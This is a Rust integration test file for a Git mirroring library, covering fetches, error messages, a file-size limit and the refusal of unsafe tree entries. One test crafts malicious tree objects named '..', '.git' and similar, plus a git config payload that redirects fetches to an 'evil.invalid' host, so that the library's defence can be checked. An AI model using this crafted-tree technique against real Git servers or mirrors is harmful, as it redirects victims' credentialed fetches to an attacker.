//! The Git source against the perimeter's Git server (HTTPS, basic auth,
//! the perimeter CA), with repositories pushed by the git command line.

use airgate_git::{Access, GitError, GitRef, Mirror};
use airgate_testkit::{Perimeter, unique_name};
use anyhow::{Result, bail};

fn access(p: &Perimeter) -> Result<Access> {
    Ok(Access {
        username: Some(p.git_user.clone()),
        password: Some(p.git_password()?),
        ca_pem: Some(std::fs::read(&p.git_ca)?),
    })
}

#[test]
fn fetches_branches_tags_and_commits_and_reads_a_directory_at_a_commit() -> Result<()> {
    let p = Perimeter::get();
    let work = tempfile::tempdir()?;
    let name = unique_name("git");
    std::fs::create_dir_all(work.path().join("envs/prod/apps"))?;
    std::fs::write(work.path().join("README"), "shop\n")?;
    std::fs::write(work.path().join("envs/prod/app.yaml"), "kind: ConfigMap\n")?;
    std::fs::write(
        work.path().join("envs/prod/apps/web.yaml"),
        "kind: Deployment\n",
    )?;
    let first = p.git_push(work.path(), &name, "main", "first: the shop")?;
    p.git(work.path(), &["tag", "v1.0.0"])?;
    p.git(
        work.path(),
        &[
            "push",
            "--quiet",
            &format!("{}/{name}.git", p.git_url),
            "v1.0.0",
        ],
    )?;

    let cache = tempfile::tempdir()?;
    let mirror = Mirror::new(cache.path());
    let url = format!("{}/{name}.git", p.git_url);
    let a = access(&p)?;
    assert_eq!(
        mirror.fetch(&url, &GitRef::Branch("main".into()), &a)?,
        first
    );
    let files = mirror.read_dir(&url, &first, "envs/prod")?;
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(names, ["app.yaml", "apps/web.yaml"]);
    assert_eq!(files["apps/web.yaml"], b"kind: Deployment\n");
    let commit = mirror.commit(&url, &first)?;
    assert_eq!(commit.author.name, "Perimeter Test");
    assert_eq!(commit.message.trim(), "first: the shop");

    // A new commit on the branch is fetched into the same mirror.
    std::fs::write(work.path().join("envs/prod/app.yaml"), "kind: Secret\n")?;
    let second = p.git_push(work.path(), &name, "main", "second")?;
    assert_eq!(
        mirror.fetch(&url, &GitRef::Branch("main".into()), &a)?,
        second
    );
    assert_eq!(
        mirror.read_dir(&url, &second, "envs/prod")?["app.yaml"],
        b"kind: Secret\n"
    );

    // A tag, and a pinned commit, still name the first state.
    assert_eq!(
        mirror.fetch(&url, &GitRef::Tag("v1.0.0".into()), &a)?,
        first
    );
    assert_eq!(
        mirror.fetch(&url, &GitRef::Commit(first.clone()), &a)?,
        first
    );

    // Errors name what is missing.
    match mirror.fetch(&url, &GitRef::Branch("nope".into()), &a) {
        Err(GitError::NoSuchRef { git_ref, .. }) => assert_eq!(git_ref, "branch nope"),
        other => bail!("expected NoSuchRef, got {other:?}"),
    }
    match mirror.read_dir(&url, &first, "envs/staging") {
        Err(GitError::NoSuchPath { path, .. }) => assert_eq!(path, "envs/staging"),
        other => bail!("expected NoSuchPath, got {other:?}"),
    }
    let wrong = Access {
        password: Some("not-the-password".into()),
        ..a.clone()
    };
    let err = match Mirror::new(tempfile::tempdir()?.path()).fetch(
        &url,
        &GitRef::Branch("main".into()),
        &wrong,
    ) {
        Ok(c) => bail!("fetched {c} with the wrong password"),
        Err(e) => e.to_string(),
    };
    assert!(!err.contains("not-the-password"), "{err}");
    Ok(())
}

/// Writes a tree object with exactly `entries` (mode, name, hex id), the way
/// `git hash-object -t tree --literally` lets an attacker: no name checks.
fn literal_tree(dir: &std::path::Path, entries: &[(&str, &[u8], &str)]) -> Result<String> {
    let mut body = Vec::new();
    for (mode, name, id) in entries {
        body.extend_from_slice(format!("{mode} ").as_bytes());
        body.extend_from_slice(name);
        body.push(0);
        let raw: Vec<u8> = (0..id.len())
            .step_by(2)
            .filter_map(|i| u8::from_str_radix(&id[i..i + 2], 16).ok())
            .collect();
        body.extend_from_slice(&raw);
    }
    let mut child = std::process::Command::new("git")
        .current_dir(dir)
        .args(["hash-object", "-t", "tree", "--literally", "-w", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()?;
    if let Some(mut stdin) = child.stdin.take() {
        std::io::Write::write_all(&mut stdin, &body)?;
    }
    let out = child.wait_with_output()?;
    if !out.status.success() {
        bail!("git hash-object failed");
    }
    Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
}

/// A commit in one tenant's repository whose tree named `..` once wrote a
/// `config` into another App's mirror (with `url.<evil>.insteadOf`), and the
/// victim fetched the attacker's repository with its own credentials. The
/// Git server accepts such a tree; airgate refuses it before writing a file.
#[test]
fn tree_entries_that_could_escape_the_checkout_are_refused() -> Result<()> {
    let p = Perimeter::get();
    let work = tempfile::tempdir()?;
    let name = unique_name("evil-tree");
    std::fs::write(work.path().join("README"), "x\n")?;
    p.git_push(work.path(), &name, "main", "first")?;
    std::fs::write(
        work.path().join("payload"),
        "[url \"https://evil.invalid/\"]\n\tinsteadOf = https://victim/\n",
    )?;
    let blob = p.git(work.path(), &["hash-object", "-w", "payload"])?;
    let blob = blob.trim();
    let inner = literal_tree(work.path(), &[("100644", b"config", blob)])?;
    let url = format!("{}/{name}.git", p.git_url);
    let cache = tempfile::tempdir()?;
    let mirror = Mirror::new(cache.path());
    // (An empty name is refused by git itself when it packs the push.)
    for evil in [&b".."[..], b".", b".git", b".GIT", b"a/b", b"a\\b"] {
        let mode = if evil == b"a/b" { "100644" } else { "40000" };
        let id = if mode == "40000" {
            inner.as_str()
        } else {
            blob
        };
        let root = literal_tree(work.path(), &[(mode, evil, id)])?;
        let commit = p.git(work.path(), &["commit-tree", &root, "-m", "evil"])?;
        let commit = commit.trim().to_string();
        p.git(
            work.path(),
            &[
                "push",
                "--quiet",
                "--force",
                &url,
                &format!("{commit}:refs/heads/main"),
            ],
        )?;
        let fetched = mirror.fetch(&url, &GitRef::Branch("main".into()), &access(&p)?)?;
        assert_eq!(fetched, commit);
        match mirror.read_dir(&url, &commit, "") {
            Err(GitError::UnsafeName { .. }) => {}
            other => bail!(
                "a tree entry named {:?} was not refused: {:?}",
                String::from_utf8_lossy(evil),
                other.map(|f| f.keys().cloned().collect::<Vec<_>>())
            ),
        }
    }
    Ok(())
}

/// A refused connection said only "Transport handshake failed"; the cause
/// is named now (nothing listens on port 9 of this machine).
#[test]
fn a_refused_connection_says_so() -> Result<()> {
    let cache = tempfile::tempdir()?;
    let mirror = Mirror::new(cache.path());
    let url = "https://127.0.0.1:9/nothing.git";
    match mirror.fetch(url, &GitRef::Branch("main".into()), &Access::default()) {
        Err(GitError::Fetch { message, .. }) => {
            assert!(message.to_lowercase().contains("refused"), "{message}");
        }
        other => bail!("expected a fetch error: {other:?}"),
    }
    Ok(())
}

/// A 100 MB file in one repository took the controller to 633 MB and every
/// tenant crash-looped. A file over the bound fails that read, naming the
/// file, before its content is loaded.
#[test]
fn a_file_over_the_bound_is_refused_before_it_is_read() -> Result<()> {
    let p = Perimeter::get();
    let work = tempfile::tempdir()?;
    let name = unique_name("big-file");
    std::fs::create_dir_all(work.path().join("envs/prod"))?;
    std::fs::write(work.path().join("envs/prod/app.yaml"), "kind: ConfigMap\n")?;
    std::fs::create_dir_all(work.path().join("assets"))?;
    let big = std::fs::File::create(work.path().join("assets/blob.bin"))?;
    big.set_len(airgate_git::MAX_FILE + 1)?;
    let commit = p.git_push(work.path(), &name, "main", "a big file")?;
    let cache = tempfile::tempdir()?;
    let mirror = Mirror::new(cache.path());
    let url = format!("{}/{name}.git", p.git_url);
    mirror.fetch(&url, &GitRef::Branch("main".into()), &access(&p)?)?;
    match mirror.read_dir(&url, &commit, "") {
        Err(GitError::TooLarge { path, .. }) => assert_eq!(path, "assets/blob.bin"),
        other => bail!("expected TooLarge: {:?}", other.map(|f| f.len())),
    }
    // The App's own directory does not hold it: that read is fine.
    assert_eq!(mirror.read_dir(&url, &commit, "envs/prod")?.len(), 1);
    Ok(())
}
